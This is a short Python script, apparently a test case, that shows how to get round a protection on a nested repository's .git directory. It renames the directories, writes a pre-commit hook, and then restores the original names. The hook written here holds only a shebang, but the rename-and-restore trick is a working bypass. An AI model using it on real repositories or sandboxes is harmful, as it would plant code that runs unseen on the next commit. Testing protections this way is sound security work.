# Changed where it is not protected, and moved back.
import os

from inside import run


def attack(target):
    os.rename(f"{target.work}/sub", f"{target.work}/mine")
    os.rename(f"{target.work}/mine/.git", f"{target.work}/mine/git")
    with open(f"{target.work}/mine/git/hooks/pre-commit", "w") as file:
        file.write("#!/bin/sh\n")
    os.rename(f"{target.work}/mine/git", f"{target.work}/mine/.git")
    os.rename(f"{target.work}/mine", f"{target.work}/sub")


run(attack)
